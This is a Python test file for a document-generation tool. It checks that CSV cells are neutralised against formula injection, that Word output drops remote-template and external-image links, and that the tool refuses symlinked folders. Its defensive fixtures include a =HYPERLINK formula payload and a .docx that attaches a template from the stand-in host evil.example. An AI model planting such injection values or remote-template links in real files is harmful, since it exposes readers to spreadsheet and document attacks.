"""Output safe for its reader: spreadsheet cells that would run as formulas, Word files that would
fetch a remote template, and a kit that stays inside its output folder."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import zipfile

import pytest

import workshop
from workshop.documents.theme import builtin_theme_dir

from .conftest import AS_OF, EXAMPLES

PROFILE = "name: {name}\nfiscal_calendar: {{first_month: 7}}\n"
ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def test_output_index_csv_cells_never_start_a_formula(invoke, tmp_path):
    folder = tmp_path / "profiles"
    folder.mkdir()
    shutil.copy(EXAMPLES / "vendor.yaml", folder)
    names = {"eq": "'=HYPERLINK(\"http://evil.example\",\"x\")'", "plus": '"+1+2"', "minus": '"-3+4"',
             "at": '"@SUM(A1:A9)"'}
    for stem, name in names.items():
        (folder / f"{stem}.yaml").write_text(PROFILE.format(name=name))
    out = tmp_path / "out"
    result = invoke("memo", "--all", "--profiles", folder, "--out", out, "--date", AS_OF.isoformat(),
                    "--format", "pdf", "--jobs", "1")
    assert result.exit_code == 0, result.output
    with open(out / "FY2028" / "index.csv", newline="", encoding="utf-8") as stream:
        rows = {row["id"]: row for row in csv.DictReader(stream)}
    assert rows["eq"]["name"] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
    assert (rows["plus"]["name"], rows["minus"]["name"], rows["at"]["name"]) == ("'+1+2", "'-3+4", "'@SUM(A1:A9)")
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values())
    assert "=HYPERLINK" in (out / "FY2028" / "index.html").read_text()  # the web page shows the name as typed


def _reference_with_remote_template(folder):
    """A theme folder whose reference.docx attaches a template from a web server, as Word saves it."""
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn

    document = docx.Document(str(builtin_theme_dir() / "reference.docx"))
    settings_part = document.part._settings_part
    rid = settings_part.relate_to("http://evil.example/brand.dotm", ATTACHED_TEMPLATE, is_external=True)
    attached = OxmlElement("w:attachedTemplate")
    attached.set(qn("r:id"), rid)
    settings_part.element.append(attached)
    header = document.sections[0].header
    link = header.part.relate_to("http://evil.example/logo.png", RT.IMAGE, is_external=True)
    run = header.paragraphs[0].add_run()
    blip = OxmlElement("w:fldSimple")  # any element that refers to the link by id
    blip.set(qn("r:id"), link)
    run._r.append(blip)
    folder.mkdir()
    document.save(str(folder / "reference.docx"))
    return folder


def test_output_docx_carries_no_external_relationship_from_a_theme(vendor, settings, tmp_path):
    brand = _reference_with_remote_template(tmp_path / "brand")
    with zipfile.ZipFile(brand / "reference.docx") as archive:  # the theme does link out
        assert any('TargetMode="External"' in archive.read(n).decode() for n in archive.namelist()
                   if n.endswith(".rels"))
    plan = workshop.plan_partnership(vendor, workshop.load_profile(EXAMPLES / "sakura.yaml"), settings, language="en")
    data = workshop.render_memo(plan, settings.replace(template_dirs=(brand,)), formats=["docx"])["docx"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rels = {n: archive.read(n).decode() for n in archive.namelist() if n.endswith(".rels")}
        settings_xml = archive.read("word/settings.xml").decode()
        xml = " ".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml"))
    assert not [n for n, text in rels.items() if "External" in text]
    assert "evil.example" not in xml and "attachedTemplate" not in settings_xml
    ids = set(re.findall(r'Id="(rId\d+)"', rels["word/_rels/document.xml.rels"]))
    assert set(re.findall(r'r:(?:id|embed)="(rId\d+)"', archive_part(data, "word/document.xml"))) <= ids
    import docx

    assert "Mutual Operating Period" in " ".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)


def archive_part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode()


# --- a kit stays inside its output folder and its own folders ---------------------------------

def test_output_prune_keeps_a_folder_a_person_made(kit):
    assert kit().exit_code == 0
    mine = kit.year / "signed-originals"
    mine.mkdir()
    (mine / "memo.pdf").write_bytes(b"%PDF- the signed original")
    result = kit("--prune")
    assert result.exit_code == 0
    assert "signed-originals" not in result.output and "removed" not in result.output
    assert (mine / "memo.pdf").read_bytes() == b"%PDF- the signed original"


def test_output_prune_keeps_a_partner_folder_holding_a_persons_file(kit, profiles, caplog):
    assert kit().exit_code == 0
    (kit.year / "bluewater" / "notes.txt").write_text("call back in May")
    (profiles / "bluewater.yaml").unlink()
    result = kit("--prune")
    assert result.exit_code == 0 and "removed" not in result.output
    assert f"{kit.year / 'bluewater'}: could not remove it: it holds files workshop did not write (notes.txt); " \
           f"it is kept" in caplog.text
    assert (kit.year / "bluewater" / "notes.txt").is_file() and (kit.year / "bluewater" / "bluewater-FY2028-memo.pdf").is_file()


def test_output_symlinked_partner_folder_is_refused(kit, profiles, tmp_path):
    assert kit(formats="pdf,docx").exit_code == 0
    outside = tmp_path / "elsewhere"
    shutil.move(kit.year / "sakura", outside)
    (kit.year / "sakura").symlink_to(outside, target_is_directory=True)
    before = {p.name: p.read_bytes() for p in outside.iterdir()}
    (profiles / "sakura.yaml").write_text((profiles / "sakura.yaml").read_text() + "# changed\n")
    for _ in range(2):
        result = kit()  # PDF only: the run would delete the .docx files it no longer writes
        assert result.exit_code == 1
        assert f"error: {kit.year / 'sakura'}: is a symbolic link (to {outside}); workshop writes only into real " \
               f"folders inside the output folder: remove the link" in result.output
        assert ", 1 failed" in result.output
        assert {p.name: p.read_bytes() for p in outside.iterdir()} == before


def test_output_symlinked_year_folder_is_refused(kit, tmp_path):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    kit.out.mkdir()
    kit.year.symlink_to(outside, target_is_directory=True)
    result = kit()
    assert result.exit_code == 1 and f"error: {kit.year}: is a symbolic link" in result.output
    assert list(outside.iterdir()) == []


def test_output_full_disk_never_makes_a_partner_belong_to_no_profile(kit, profiles, monkeypatch):
    import errno

    from workshop.kits import pipeline, state

    assert kit().exit_code == 0
    (profiles / "rheinwerk.yaml").write_text((profiles / "rheinwerk.yaml").read_text() + "# changed\n")
    real = state.write_atomic

    def full(path, data):
        if "rheinwerk" in str(path):  # its files, its claim and its failure record
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        return real(path, data)

    monkeypatch.setattr(pipeline, "write_atomic", full)
    monkeypatch.setattr(state, "write_atomic", full)
    for _ in range(2):
        result = kit()
        assert result.exit_code == 1 and "No space left on device" in result.output
        assert "belong to no profile" not in result.output
    monkeypatch.undo()
    result = kit("--prune")
    assert result.exit_code == 0 and "1 built, 2 unchanged, 0 failed" in result.output
    assert "belong to no profile" not in result.output and "removed" not in result.output


@pytest.mark.slow
@pytest.mark.skipif(not os.path.isdir("/proc/self"), reason="finds the workers in /proc")
def test_output_no_worker_outlives_a_killed_run(tmp_path):
    import signal
    import subprocess
    import sys
    import time

    shutil.copytree(EXAMPLES, tmp_path / "profiles")
    run = subprocess.Popen([sys.executable, "-m", "workshop", "kit", "--all", "--jobs", "2", "--date",
                            AS_OF.isoformat(), "--profiles", "profiles", "--out", "out"], cwd=tmp_path,
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline, workers = time.monotonic() + 60, []
    while len(workers) < 2 and time.monotonic() < deadline and run.poll() is None:
        time.sleep(0.1)
        workers = [pid for pid in _children(run.pid)]
    assert len(workers) == 2, "the run started its two workers"
    os.kill(run.pid, signal.SIGKILL)
    run.wait()
    deadline = time.monotonic() + 10
    while any(_alive(pid) for pid in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not [pid for pid in workers if _alive(pid)]


def _children(parent: int) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as stream:
                    fields = stream.read().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == parent:
                found.append(int(entry))
    return found


def _alive(pid: int) -> bool:
    """Whether a process runs (a zombie nobody has reaped yet has stopped)."""
    try:
        with open(f"/proc/{pid}/stat") as stream:
            return stream.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False
